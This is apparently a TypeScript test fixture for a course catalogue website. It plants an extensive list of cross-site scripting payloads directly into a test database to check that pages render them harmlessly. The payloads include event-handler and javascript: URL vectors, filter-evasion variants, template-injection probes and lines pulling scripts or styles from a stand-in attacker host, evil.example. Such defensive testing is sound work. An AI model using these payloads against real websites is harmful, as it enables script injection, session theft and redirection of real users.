import type { Database } from '../../server/platform/database/database.ts'
import { sql } from '../../server/platform/database/sql.ts'
import { INSTITUTION, openSeparateSite, type SeparateSite } from './separate-site.ts'

/** Would show a dialogue, and leave its mark, wherever a browser takes it for more than text. */
const ATTACK = 'window.wasRun=1;alert(1)'

/** Breaks out of a script, an attribute or a tag, if any of them lets it. */
export const INJECTED_NAME = `</script><img src=x onerror="${ATTACK}">"'><svg/onload=alert(1)> {{7*7}} \${7*7}`

/** Ways to run a script from rich text, as the filter evasion sheets collect them. */
export const INJECTED_HTML: readonly string[] = [
  `<script>${ATTACK}</script>`,
  `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${ATTACK}</scr</script>ipt>`,
  `<script/src=data:,${ATTACK}></script>`,
  `<script x>${ATTACK}</script x>`,
  `<img src=x onerror=${ATTACK}>`,
  `<img src="x" OnErRoR="${ATTACK}">`,
  `<img/src=x/onerror=${ATTACK}>`,
  `<img src=\`x\`onerror=${ATTACK}>`,
  `<img """><script>${ATTACK}</script>">`,
  `<img src=x:x onerror\n=\n"${ATTACK}">`,
  `<image src=x onerror=${ATTACK}>`,
  `<svg onload=${ATTACK}>`,
  `<svg/onload=${ATTACK}>`,
  `<svg><script>${ATTACK}</script></svg>`,
  `<svg><animate onbegin=${ATTACK} attributeName=x dur=1s></svg>`,
  `<svg><a xlink:href="javascript:${ATTACK}"><text y=20>a</text></a></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${ATTACK}</script>"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${ATTACK}></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${ATTACK}">a</math>`,
  `<body onload=${ATTACK}>`,
  `<body onpageshow=${ATTACK}>`,
  `<p onclick=${ATTACK} onmouseover=${ATTACK}>Point at me</p>`,
  `<div onpointerenter=${ATTACK} style="position:fixed;inset:0;background:url(javascript:${ATTACK})">Big</div>`,
  `<details open ontoggle=${ATTACK}><summary>a</summary></details>`,
  `<input autofocus onfocus=${ATTACK}>`,
  `<select autofocus onfocus=${ATTACK}>`,
  `<textarea autofocus onfocus=${ATTACK}></textarea>`,
  `<button formaction="javascript:${ATTACK}">a</button>`,
  `<form action="javascript:${ATTACK}"><input type=submit></form>`,
  `<form id=hijack></form><button form=hijack formaction=https://evil.example>a</button>`,
  `<isindex type=image src=1 onerror=${ATTACK}>`,
  `<iframe src="javascript:parent.${ATTACK}"></iframe>`,
  `<iframe srcdoc="<script>parent.${ATTACK}</script>"></iframe>`,
  `<frameset onload=${ATTACK}><frame src="javascript:${ATTACK}"></frameset>`,
  `<object data="javascript:${ATTACK}"></object>`,
  `<object data="data:text/html,<script>${ATTACK}</script>"></object>`,
  `<embed src="javascript:${ATTACK}">`,
  `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${ATTACK}'/>">`,
  `<video><source onerror=${ATTACK}></video>`,
  `<video src=x onerror=${ATTACK} autoplay></video>`,
  `<audio src=x onerror=${ATTACK}></audio>`,
  `<marquee onstart=${ATTACK}>a</marquee>`,
  `<meta http-equiv=refresh content="0;url=javascript:${ATTACK}">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example">`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<link rel=import href="data:text/html,<script>${ATTACK}</script>">`,
  `<base href="https://evil.example/">`,
  `<style>@import 'https://evil.example/x.css';body{display:none}</style>`,
  `<a href="javascript:${ATTACK}">a</a>`,
  `<a href=" java\nscript:${ATTACK}">a</a>`,
  `<a href="&#106;avascript:${ATTACK}">a</a>`,
  `<a href="java&#x09;script:${ATTACK}">a</a>`,
  `<a href="\u0001javascript:${ATTACK}">a</a>`,
  `<a href="data:text/html,<script>${ATTACK}</script>">a</a>`,
  `<a href="vbscript:msgbox(1)">a</a>`,
  `<a href="//evil.example/">a</a>`,
  `<a href="https://college.example" onclick=${ATTACK} target=_blank>a</a>`,
  `<template><script>${ATTACK}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${ATTACK}>"></noscript>`,
  `<!--><script>${ATTACK}</script>-->`,
  `<!--<img src="--><img src=x onerror=${ATTACK}//">`,
  `<![CDATA[<script>${ATTACK}</script>]]>`,
  `<?xml version="1.0"?><script>${ATTACK}</script>`,
  `<title><script>${ATTACK}</script></title>`,
  `<textarea></textarea><script>${ATTACK}</script>`,
  `<xmp><script>${ATTACK}</script></xmp>`,
  `<plaintext-like><script>${ATTACK}</script></plaintext-like>`,
  `<table background="javascript:${ATTACK}"><tr><td background="javascript:${ATTACK}">a</td></tr></table>`,
  `<p style="background:url('javascript:${ATTACK}')" class="fixed inset-0" id="main">a</p>`,
  `</div></main><script>${ATTACK}</script>`,
]

export const INJECTED_LINKS: readonly string[] = [
  'javascript:window.wasRun=1',
  ' java\nscript:window.wasRun=1',
  'data:text/html,<script>alert(1)</script>',
  '//evil.example',
  'https:evil.example',
]

const GOOD_MAP = 'https://www.google.com/maps/embed?pb=!1m14!1d2000!2d73.5!3d4.17'

export const INJECTED_MAPS: readonly string[] = [
  `<iframe src="${GOOD_MAP}" onload="window.wasRun=1"></iframe>`,
  `<iframe src="${GOOD_MAP}" srcdoc="<script>parent.wasRun=1</script>"></iframe>`,
  '<iframe src="https://www.google.com.evil.example/maps/embed?pb=1"></iframe>',
  '<iframe src="https://www.google.com/url?q=https://evil.example/maps/embed?pb=1"></iframe>',
  '<iframe src="javascript:parent.wasRun=1"></iframe>',
  '<script>window.wasRun=1</script>',
]

/** Something extra hangs on it, but the address is one that we know. */
export const USABLE_MAP = `<iframe src="${GOOD_MAP}&amp;evil=https://evil.example" width="600" style="position:fixed"></iframe>`

export interface InjectionSite extends SeparateSite {
  institutionPath: string
  /** Leads to the course's own address. */
  coursePath: string
  comparisonPath: string
  /** What the course was called before, which is what searches still find it by. */
  formerName: string
}

/** Straight into the tables, past everything that checks or cleans what is written. */
async function plant(database: Database): Promise<{ id: number; name: string }> {
  // Long enough to be cut at first.
  const html = `<p>${'Plain words before. '.repeat(40)}</p>${INJECTED_HTML.join('\n')}`
  const [course] = await database.query<{ id: number; name: string }>(
    sql`select id, name from course order by id limit 1`,
  )
  if (!course) throw new Error('There is no course to change.')
  await database.query(sql`
    update course set name = ${INJECTED_NAME}, awarding_body = ${INJECTED_NAME}, awarding_body_country = ${INJECTED_NAME},
      gov_first_degree_text = ${INJECTED_NAME}, duration_remarks = ${INJECTED_NAME}, mode_of_study_text = ${INJECTED_NAME},
      admission_general_requirements = ${html}, modules = ${html}, careers = ${html}, general_notes = ${html}
    where id = ${course.id}`)
  await database.query(sql`
    update institution set name = ${INJECTED_NAME}, overview = ${html} where id = ${INSTITUTION}`)
  await database.query(
    sql`update institution_slide set caption = ${INJECTED_NAME} where institution_id = ${INSTITUTION}`,
  )
  const campuses = await database.query<{ id: number }>(sql`
    select id from campus where institution_id = ${INSTITUTION} order by main desc, position`)
  for (const [at, { id }] of campuses.entries()) {
    const link = INJECTED_LINKS[at % INJECTED_LINKS.length]
    // The first has a map that can be used, so that a page without any is no proof by accident.
    const map = at === 0 ? USABLE_MAP : INJECTED_MAPS[at % INJECTED_MAPS.length]
    await database.query(sql`
      update campus set name = ${`${INJECTED_NAME} ${at}`}, phone = ${INJECTED_NAME}, email = ${INJECTED_NAME},
        line1 = ${INJECTED_NAME}, link_website = ${link}, link_instagram = ${link}, link_twitter = ${link},
        link_facebook = ${link}, link_linkedin = ${link}, link_youtube = ${link}, location_link = ${map}
      where id = ${id}`)
  }
  await database.query(sql`insert into faq (question, answer, "order") values (${INJECTED_NAME}, ${html}, 1)`)
  const [link] = INJECTED_LINKS
  await database.query(sql`
    update faculty set name = ${INJECTED_NAME} || id, phone = ${INJECTED_NAME}, link_website = ${link},
      link_instagram = ${link}, link_twitter = ${link}, link_facebook = ${link}, link_linkedin = ${link},
      link_youtube = ${link}, location_link = ${INJECTED_MAPS[0]}
    where institution_id = ${INSTITUTION}`)
  return course
}

/** The site as it is built, on a catalogue of its own with script injections in every text. */
export async function openInjectionSite(): Promise<InjectionSite> {
  let injected = { id: 0, name: '' }
  const site = await openSeparateSite({
    async prepare(database) {
      injected = await plant(database)
    },
  })
  return {
    ...site,
    institutionPath: `/institutions/${INSTITUTION}`,
    coursePath: `/courses/${injected.id}`,
    comparisonPath: `/compare?ids=${injected.id}`,
    formerName: injected.name,
  }
}
